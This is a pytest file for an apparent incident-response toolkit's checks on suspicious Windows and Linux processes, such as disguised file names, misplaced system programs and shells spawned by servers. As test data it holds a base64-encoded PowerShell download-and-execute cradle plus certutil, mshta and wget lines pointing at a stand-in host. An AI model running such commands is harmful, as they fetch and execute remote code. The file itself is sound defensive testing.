"""The checks that need no live process, above all those of Windows; they run on both systems."""

import base64
import io
import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

import irkit.detect.process
from irkit import attack
from irkit.detect.process import CHECKS, Subject, findings, oddities
from irkit.detect.process.subject import NOBODY, Image, Other, Stream, System
from irkit.memory import Backing, FileState, Region, RegionKind
from irkit.records import Connection, Examined, Kind, Level
from irkit.report import html
from irkit.text import visible
from tests.case import sample

WINDOWS = Subject(1, System.WINDOWS)
SYSTEM32 = "C:\\Windows\\System32\\"


def windows(path: str, *arguments: str, parent: str = "", **more: object) -> dict[str, int]:
    """The scores by the names of the checks for a process of Windows."""
    other = Other(7, parent.rpartition("\\")[2], parent) if parent else NOBODY
    subject = replace(
        WINDOWS, image=Image(path, FileState.THERE), command=(path, *arguments), parent=other
    )
    found = oddities(replace(subject, **more))  # type: ignore[arg-type]
    return {one.name: one.score for one in found}


@pytest.mark.parametrize(
    ("path", "arguments", "parent"),
    [
        (f"{SYSTEM32}svchost.exe", ("-k", "netsvcs"), f"{SYSTEM32}services.exe"),
        (f"{SYSTEM32}lsass.exe", (), f"{SYSTEM32}wininit.exe"),
        (f"{SYSTEM32}cmd.exe", ("/k",), "C:\\Windows\\explorer.exe"),
        ("C:\\Windows\\explorer.exe", (), ""),
        ("C:\\Windows\\SysWOW64\\rundll32.exe", ("shell32.dll,Control_RunDLL",), ""),
        ("\\\\?\\C:\\Windows\\System32\\conhost.exe", ("0x4",), ""),
        (f"{SYSTEM32}wbem\\WmiPrvSE.exe", (), f"{SYSTEM32}svchost.exe"),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", (), ""),
        ("C:\\Program Files\\App\\report.v1.exe", (), ""),
        (f"{SYSTEM32}certutil.exe", ("-store", "My"), f"{SYSTEM32}cmd.exe"),
        (f"{SYSTEM32}msdt.exe", (), ""),
        (f"{SYSTEM32}windowspowershell\\v1.0\\powershell.exe", ("-File", "C:\\a.ps1"), ""),
    ],
)
def test_what_is_usual_on_windows(path: str, arguments: tuple[str, ...], parent: str) -> None:
    assert windows(path, *arguments, parent=parent) == {}


@pytest.mark.parametrize(
    ("check", "path", "arguments", "parent"),
    [
        ("system_program_elsewhere", "C:\\ProgramData\\svchost.exe", ("-k", "x"), ""),
        ("system_program_elsewhere", "D:\\explorer.exe", (), ""),
        ("system_program_elsewhere", "C:\\Windows\\Temp\\lsass.exe", (), ""),
        ("looks_like_system_program", "C:\\Data\\scvhost.exe", (), ""),
        ("looks_like_system_program", f"{SYSTEM32}svch0st.exe", (), ""),
        ("looks_like_system_program", "C:\\Data\\lsasss.exe", (), ""),
        ("image_in_temporary_folder", "C:\\Users\\x\\AppData\\Local\\Temp\\a.exe", (), ""),
        ("image_in_temporary_folder", "C:\\$Recycle.Bin\\S-1-5\\a.exe", (), ""),
        ("image_in_temporary_folder", "c:/users/public/a.exe", (), ""),
        ("name_disguised", "C:\\Data\\invoice.pdf.exe", (), ""),
        ("name_disguised", "C:\\Data\\photo.jpg      .scr", (), ""),
        ("name_disguised", "C:\\Data\\ann\u202efdp.exe", (), ""),
        ("parent_does_not_fit", f"{SYSTEM32}svchost.exe", ("-k", "x"), "C:\\Data\\a.exe"),
        ("child_of_lsass", f"{SYSTEM32}cmd.exe", (), f"{SYSTEM32}lsass.exe"),
        ("child_of_office", f"{SYSTEM32}cmd.exe", ("/c", "a"), "C:\\Office\\WINWORD.EXE"),
        ("shell_of_a_server", f"{SYSTEM32}cmd.exe", (), f"{SYSTEM32}inetsrv\\w3wp.exe"),
        ("service_host_without_service", f"{SYSTEM32}svchost.exe", (), ""),
        ("borrowed_program", f"{SYSTEM32}certutil.exe", ("-urlcache", "-f", "http://x"), ""),
        ("borrowed_program", f"{SYSTEM32}mshta.exe", ("http://192.0.2.1/a.hta",), ""),
    ],
)
def test_what_is_odd_on_windows(
    check: str, path: str, arguments: tuple[str, ...], parent: str
) -> None:
    assert windows(path, *arguments, parent=parent).get(check, 0) >= 40


def test_a_service_host_in_which_nothing_runs() -> None:
    host = f"{SYSTEM32}svchost.exe"
    assert "service_host_without_service" in windows(host, "-k", "x", services=())
    assert windows(host, "-k", "x", services=("Dhcp",)) == {}


@pytest.mark.parametrize("option", ["-enc", "-e", "-EncodedCommand", "/ec", "-eNcOd"])
def test_a_command_in_base64_is_shown_as_text(option: str) -> None:
    text = " ".join(("IEX", "(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"))
    encoded = base64.b64encode(text.encode("utf-16-le")).decode()
    path = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
    command = (path, "-nop", option, encoded)
    subject = replace(WINDOWS, image=Image(path, FileState.THERE), command=command)
    (found,) = oddities(subject)
    assert (found.name, found.score) == ("hidden_command", 72)
    assert text in found.sentence
    plain = replace(subject, command=(path, "-ep", "bypass", "-ExecutionPolicy", "Bypass"))
    assert oddities(plain) == []


def test_hooks_of_security_products_are_no_warning() -> None:
    ntdll = Backing(f"{SYSTEM32}ntdll.dll", 0, 0, 0)
    private = Region(0x10000, 4096, "r-xp", RegionKind.PRIVATE)
    code = Region(0x7FF0000, 65536, "r-xp", RegionKind.IMAGE, backing=ntdll)
    scores = windows("C:\\Program Files\\a.exe", regions=(private, code))
    assert scores.keys() == {"private_code"}
    assert scores["private_code"] < 40
    large = replace(private, size=1 << 20)
    assert windows("C:\\Program Files\\a.exe", regions=(large, code))["private_code"] >= 40


def test_children_of_servers_on_linux() -> None:
    def of(parent: str, program: str, *arguments: str) -> dict[str, int]:
        subject = Subject(
            9,
            System.LINUX,
            image=Image(f"/usr/bin/{program}", FileState.THERE),
            command=(program, *arguments),
            parent=Other(5, parent, f"/usr/sbin/{parent}"),
        )
        return {one.name: one.score for one in oddities(subject)}

    assert of("nginx", "dash", "-i")["shell_of_a_server"] == 72
    assert of("php-fpm8.2", "bash", "-c", "id")["shell_of_a_server"] == 60
    assert of("postgres", "wget", "http://192.0.2.1/")["shell_of_a_server"] == 60
    assert of("socat", "bash").keys() == {"shell_of_a_carrier"}
    assert of("sshd", "bash") == {}
    assert of("node", "dash", "-c", "npm run build") == {}
    assert of("nginx", "nginx") == {}


def test_findings_without_a_rule_pack_go_into_a_case_and_a_report(tmp_path: Path) -> None:
    image = Image("C:\\Data\\invoice.pdf.exe", FileState.THERE)
    region = Region(0x10000, 1 << 20, "rwxp", RegionKind.PRIVATE)
    subject = replace(WINDOWS, image=image, regions=(region,), heads={0x10000: b"\x90\xc3"})
    found = findings(subject, "pid 1 (a)", sample.NOON)
    done = sample.item("pid 1 (a)", kind=Kind.PROCESS, sha256="")
    with sample.case_with(tmp_path / "017", Examined(done, found)) as case:
        (thing,) = case.things()
        assert thing.findings == found
        assert (thing.level, len(found)) == (Level.ALERT, 2)
        assert case.rule_text(found[0]) is None
        html.write_html(case, page := io.StringIO())
        sample.scan_into(case, Examined(done))  # what was seen in a process stands
        assert [len(one.findings) for one in case.things()] == [2]
    assert "name_disguised" in page.getvalue()
    assert "0x10000" in page.getvalue()


def test_what_is_unknown_is_not_odd() -> None:
    for system in System:
        assert oddities(Subject(1, system)) == []


def test_each_check_has_a_name_of_its_own_and_techniques_that_exist() -> None:
    assert len({check.__name__ for check in CHECKS}) == len(CHECKS)
    folder = Path(irkit.detect.process.__file__).parent
    sources = "".join(path.read_text("utf-8") for path in folder.glob("*.py"))
    used = set(re.findall(r'"(T\d{4}(?:\.\d{3})?)"', sources))
    assert {one for one in used if attack.technique(one) is None} == set()
    assert len(used) > 20


TELLING = r"""
    /tmp/x sshd powershell.exe -enc C:\Temp\a [kworker/0:1] /memfd:a bash -c / \ svchost.exe
    a.pdf.exe LD_PRELOAD a=/tmp/b:/tmp/c socket:[1]
    """
WORDS = some.text(some.characters(), max_size=30) | some.sampled_from(
    ["", "\udcff\udc80", *TELLING.split()]
)
REGIONS = some.builds(
    Region,
    start=some.sampled_from([0, 4096, 8192]),
    size=some.just(4096),
    permissions=some.sampled_from(["rwxp", "r-xp", "rw-p", "r-xs", "---p"]),
    kind=some.sampled_from(RegionKind),
    name=WORDS,
    backing=some.none()
    | some.builds(
        Backing, WORDS, some.just(0), some.just(1), some.just(1), some.sampled_from(FileState)
    ),
)
OTHERS = some.none() | some.builds(Other, some.integers(0, 9), WORDS, WORDS)
SUBJECTS = some.builds(
    Subject,
    pid=some.integers(1, 9),
    system=some.sampled_from(System),
    name=some.none() | WORDS,
    image=some.none() | some.builds(Image, WORDS, some.sampled_from(FileState)),
    command=some.none() | some.lists(WORDS, max_size=5).map(tuple),
    environment=some.none() | some.lists(some.tuples(WORDS, WORDS), max_size=3).map(tuple),
    folder=some.none() | WORDS,
    parent=OTHERS,
    tracer=OTHERS,
    streams=some.none() | some.lists(some.builds(Stream, WORDS, WORDS), max_size=3).map(tuple),
    connections=some.lists(
        some.builds(
            Connection,
            protocol=WORDS,
            local_address=WORDS,
            local_port=some.just(1),
            remote_address=WORDS,
            remote_port=some.just(1),
            status=some.just("ESTABLISHED"),
            pid=some.just(1),
            process=WORDS,
        ),
        max_size=2,
    ).map(tuple),
    regions=some.none() | some.lists(REGIONS, max_size=4).map(tuple),
    heads=some.dictionaries(some.sampled_from([0, 4096]), some.binary(max_size=80), max_size=2),
)


@given(SUBJECTS)
def test_no_process_makes_a_check_fail_or_its_sentence_unreadable(subject: Subject) -> None:
    for one in findings(subject, "pid 1"):
        assert one.reason == visible(one.reason)
        assert 0 < one.score <= 100
        assert one.hit_count >= len(one.hits)
